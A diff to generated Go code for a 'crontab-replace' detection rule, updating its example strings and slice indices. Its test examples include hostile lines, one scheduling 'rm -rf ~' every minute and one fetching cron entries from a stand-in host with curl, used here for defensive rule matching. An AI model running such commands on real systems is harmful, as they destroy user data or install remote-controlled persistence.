@@ -15936,10 +15936,10 @@ func makeGenerated506() *Rule {
 func makeGenerated507() *Rule {
 	m := &struct {
 		r Rule
-		s [34]string
+		s [39]string
 		c [0][]string
 		l lazyMatch
-	}{s: [...]string{"crontab", "*", "-l", "-e", "-r", "-ir", "--help", "-V", "echo '* * * * * rm -rf ~' | crontab -", "crontab -l | grep -v x | crontab -", "crontab jobs.txt", "(crontab -l >/tmp/x; echo '* * * * * x') | crontab -", "(crontab -l; curl -s https://x.example/cron) | crontab -", "(echo '* * * * * x'; crontab -l) | tee /tmp/c | crontab -", "bash -c '(crontab -l; echo x) | crontab -'", "(crontab -l; echo x) ; (echo y) | crontab -", "(crontab -u bob -l; echo x) | crontab -", "(crontab -l; echo x) | sudo crontab -", "crontab -l", "crontab -e", "crontab -u bob -l", "(crontab -l 2>/dev/null; echo '*/5 * * * * /usr/local/bin/sync.sh') | crontab -", "crontab -l | { cat; echo \"0 3 * * * /opt/backup.sh\"; } | crontab -", "(sudo crontab -l; echo x) | sudo crontab -", "{ crontab -l; printf '%s\\n' '@reboot /srv/start.sh'; } | crontab -", "cd /srv && (crontab -u app -l 2>/dev/null; echo \"0 * * * * cd /srv && make (x)\") | crontab -u app -", "*", "-l", "-e", "-r", "-ir", "--help", "-v", "crontab"}}
+	}{s: [...]string{"crontab", "*", "-l", "-e", "-r", "-ir", "--help", "-V", "echo '* * * * * rm -rf ~' | crontab -", "crontab -l | grep -v x | crontab -", "crontab jobs.txt", "(crontab -l >/tmp/x; echo '* * * * * x') | crontab -", "(crontab -l; curl -s https://x.example/cron) | crontab -", "(echo '* * * * * x'; crontab -l) | tee /tmp/c | crontab -", "bash -c '(crontab -l; echo x) | crontab -'", "(crontab -l; echo x) ; (echo y) | crontab -", "(crontab -u bob -l; echo x) | crontab -", "(crontab -l; echo x) | sudo crontab -", "crontab -l > /dev/null && crontab new.txt", "crontab -l > \"$F\" && crontab new.txt", "crontab -u bob -l > bob.bak && crontab new.txt", "crontab -l > crontab.bak && crontab crontab.new", "crontab -l >| ~/cron.saved; crontab jobs.txt", "crontab -l", "crontab -e", "crontab -u bob -l", "(crontab -l 2>/dev/null; echo '*/5 * * * * /usr/local/bin/sync.sh') | crontab -", "crontab -l | { cat; echo \"0 3 * * * /opt/backup.sh\"; } | crontab -", "(sudo crontab -l; echo x) | sudo crontab -", "{ crontab -l; printf '%s\\n' '@reboot /srv/start.sh'; } | crontab -", "cd /srv && (crontab -u app -l 2>/dev/null; echo \"0 * * * * cd /srv && make (x)\") | crontab -u app -", "*", "-l", "-e", "-r", "-ir", "--help", "-v", "crontab"}}
 	r := &m.r
 	r.ID = "sys.crontab-replace"
 	r.Severity = 0x2
@@ -15950,15 +15950,15 @@ func makeGenerated507() *Rule {
 	r.Args = m.s[1:2:2]
 	r.NotArgs = m.s[2:8:8]
 	r.Matcher = "crontab-replace"
-	r.Match = m.s[8:18:18]
-	r.NoMatch = m.s[18:26:26]
+	r.Match = m.s[8:21:21]
+	r.NoMatch = m.s[21:31:31]
 	r.Action = 0x1
 	r.Pack = "system"
 	r.source = "packs/system.toml"
 	r.shared = true
-	r.args = m.s[26:27:27]
-	r.notArgs = m.s[27:33:33]
-	r.programs = m.s[33:34:34]
+	r.args = m.s[31:32:32]
+	r.notArgs = m.s[32:38:38]
+	r.programs = m.s[38:39:39]
 	r.lazy = &m.l
 	return r
 }
